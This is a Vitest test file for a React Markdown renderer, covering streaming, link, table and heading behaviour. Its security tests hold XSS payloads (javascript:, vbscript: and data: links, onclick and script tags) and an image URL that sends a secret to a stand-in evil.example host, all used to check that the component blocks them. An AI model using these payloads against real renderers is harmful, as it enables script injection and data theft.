import "../styles.css";
import { flushSync } from "react-dom";
import { describe, expect, it } from "vitest";
import { drawInPage, host, root } from "../../test/testPage.js";
import { Markdown, type MarkdownProps } from "./Markdown.js";

drawInPage("width: 600px", "rt");

function show(text: string, props: Partial<MarkdownProps> = {}): void {
  flushSync(() => root.render(<Markdown text={text} {...props} />));
}

const find = (selector: string) => host.querySelector<HTMLElement>(selector);
const links = () => [...host.querySelectorAll("a")];
const words = () => (host.textContent ?? "").trim();

/** Every text that a stream of fragments leads through. */
function stream(deltas: readonly string[], look: (text: string) => void): void {
  let text = "";
  for (const delta of deltas) {
    text += delta;
    show(text, { streaming: true });
    look(text);
  }
  show(text);
}

describe("a text that streams", () => {
  it("B141: keeps one element for its code, whose text only grows, and shows no lone fence", () => {
    const seen: (HTMLElement | null)[] = [];
    const texts: string[] = [];
    stream(["Here:\n\n`", "``t", "s\nconst a = 1", "\nconst b = 2\n`", "``\n\nDone"], () => {
      expect(words()).not.toContain("`");
      seen.push(find("pre"));
      texts.push(find("code")?.textContent ?? "");
    });
    expect(seen.slice(0, 2)).toEqual([null, null]);
    expect(new Set(seen.slice(2)).size).toBe(1);
    expect(texts.slice(2)).toEqual([
      "const a = 1",
      "const a = 1\nconst b = 2",
      "const a = 1\nconst b = 2",
    ]);
    expect(find("pre")).toBe(seen[2]);
    expect(find("p:last-child")?.textContent).toBe("Done");
  });

  it("B141: never shows a fence, whatever the pieces in which it comes", () => {
    const whole = "Here:\n\n```ts\nconst a = 1\n```\n\n1. then\n   ```\n   b\n   ```\n\nDone";
    let code: HTMLElement | null = null;
    stream([...whole], () => {
      expect(words()).not.toContain("`");
      code ??= find("pre");
      if (code) expect(find("pre")).toBe(code);
    });
    expect(host.querySelectorAll("pre")).toHaveLength(2);
  });

  it("never gets shorter, whatever the character at which it stands", () => {
    const whole = [
      "# Plan\n\nHere is **what** `I` found:\n\n- first *item*\n- [a](https://example.test) link",
      "- [x] done\n\n> a quote\n> - nested\n\nA table:\n| a | b |\n|---|---|\n| 1 | 2 |",
      "![chart](https://example.test/c.png) and text\n\n    indented code\n\nThe end.",
    ].join("\n\n");
    let height = 0;
    let table = "";
    stream([...whole], (text) => {
      const now = host.getBoundingClientRect().height;
      expect(now, JSON.stringify(text.slice(-20))).toBeGreaterThanOrEqual(height - 1);
      height = now;
      table += find("table") ? "" : (words().match(/\|/)?.[0] ?? "");
    });
    expect(table).toBe("");
  });

  it("B143: shows the label of a link until its address is whole, and asks for no half image", () => {
    const pieces = [
      "- [guide](https://docs.exam",
      "ple.org/a_b) and ![alt](https://img",
      ".example/x.png)",
    ];
    const seen: { words: string; links: string[]; images: number }[] = [];
    stream(pieces, () =>
      seen.push({
        words: words(),
        links: links().map(({ href }) => href),
        images: host.querySelectorAll("img").length,
      }),
    );
    expect(seen[0]).toEqual({ words: "guide", links: [], images: 0 });
    expect(seen[1]).toEqual({
      words: "guide and",
      links: ["https://docs.example.org/a_b"],
      images: 0,
    });
    expect(seen[2]?.images).toBe(0);
  });

  it("B143: makes no link of an address that may go on", () => {
    show("See https://docs.exam", { streaming: true });
    expect(links()).toHaveLength(0);
    expect(words()).toContain("https://docs.exam");
    show("See https://docs.example.org now", { streaming: true });
    expect(links()[0]?.href).toBe("https://docs.example.org/");
  });

  it("draws again only the block that grew", () => {
    show("One *two*.\n\nThree", { streaming: true });
    const first = find("p");
    const em = find("em");
    show("One *two*.\n\nThree four", { streaming: true });
    expect(find("p")).toBe(first);
    expect(find("em")).toBe(em);
    expect(find(".rt-caret")).not.toBeNull();
    show("One *two*.\n\nThree four");
    expect(find(".rt-caret")).toBeNull();
  });
});

describe("what a text must not do", () => {
  it("B145: makes links only of http, https and mailto, and opens no script", () => {
    show(
      "[a](javascript:alert(1)) [b](JaVa\tScRiPt:alert(1)) [c](data:text/html,<script>1</script>) [d](vbscript:x) <https://ok.example> [e](//evil.example) [f](javascript&#58;alert(1)) [g](mailto:a@b.example) [h](&#x6A;avascript:alert(1)) [i](\\javascript:x)\n\n[j]: javascript:alert(1)\n\n[j]",
    );
    expect(links().map(({ href }) => href)).toEqual(["https://ok.example/", "mailto:a@b.example"]);
    for (const link of links()) expect(link.rel).toContain("noopener noreferrer");
    expect(host.querySelectorAll("script, [src], [action], [onclick]")).toHaveLength(0);
    expect(words()).toMatch(/^a \[b\]\(JaVa\s+ScRiPt:alert\(1\)\) c d/);
  });

  it("B147: loads no image that it was not told to, and names the host", () => {
    const text =
      '![x](https://evil.example/p.png?leak=SECRET) ![y](//evil.example/q) <img src="https://evil.example/r"> ![ok](data:image/png;base64,iVBORw0KGgo=)';
    show(text);
    expect([...host.querySelectorAll("img")].map(({ src }) => src)).toEqual([
      "data:image/png;base64,iVBORw0KGgo=",
    ]);
    expect(words()).toContain("evil.example, not loaded");
    expect(words()).not.toContain("SECRET");
    expect(words()).toContain('<img src="https://evil.example/r">');
    const asked = performance
      .getEntriesByType("resource")
      .filter(({ name }) => name.includes("evil.example"));
    expect(asked).toEqual([]);
  });

  it("B147: lets the images of chosen hosts through", () => {
    show("![x](https://img.invalid/p.png) ![y](https://evil.example/q)", {
      allowImages: ["img.invalid"],
    });
    const [image, ...others] = [...host.querySelectorAll("img")];
    expect(image?.src).toBe("https://img.invalid/p.png");
    expect(image?.referrerPolicy).toBe("no-referrer");
    expect(others).toEqual([]);
  });

  it("shows HTML as text", () => {
    show("<div onclick=alert(1)>\n<script>alert(1)</script>\n</div>\n\na <b>bold</b> &lt;i&gt;");
    expect(host.querySelectorAll("script, b, i, [onclick]")).toHaveLength(0);
    expect(words()).toContain("<script>alert(1)</script>");
    expect(words()).toContain("a <b>bold</b> <i>");
  });

  it("says where a link leads whose words are another address", () => {
    show("[https://bank.example](https://evil.example/x) [www.ok.example](https://ok.example)");
    expect(words()).toBe("https://bank.example (evil.example) www.ok.example");
  });
});

it("draws tables, tasks, lists, quotes and headings below the page's own", () => {
  show(
    "# Plan\n\n| Guest | Seat |\n|:--|--:|\n| Ames | 7 |\n\n- [x] read\n- [ ] write\n  1. inner\n\n> quoted `code`\n\n---\n\n~~old~~",
  );
  expect(find("h3")?.textContent).toBe("Plan");
  expect(find("td[data-align=right]")?.textContent).toBe("7");
  expect([...host.querySelectorAll("ul > li")].map((item) => item.textContent)).toEqual([
    "Completedread",
    "Not finishedwriteinner",
  ]);
  expect(find("blockquote code")?.textContent).toBe("code");
  expect(find("del")?.textContent).toBe("old");
});

it("leaves out no level of heading, whatever ranks a text leaves out", () => {
  show("## Seats\n\n#### Table 7\n\n> ###### Note\n\n# Menu");
  const headings = [...host.querySelectorAll("h1, h2, h3, h4, h5, h6")];
  expect(headings.map(({ tagName, textContent }) => `${tagName} ${textContent}`)).toEqual([
    "H3 Seats",
    "H4 Table 7",
    "H5 Note",
    "H3 Menu",
  ]);
  // They look as they were written.
  expect(headings.map((each) => each.getAttribute("data-rank"))).toEqual(["2", "4", "6", "1"]);
});

it("shows the rest of a very long text on request", () => {
  show("A paragraph of forty characters, or so.\n\n".repeat(1000));
  expect(host.querySelectorAll("p").length).toBeLessThan(600);
  flushSync(() => find("button")?.click());
  expect(host.querySelectorAll("p")).toHaveLength(1000);
});
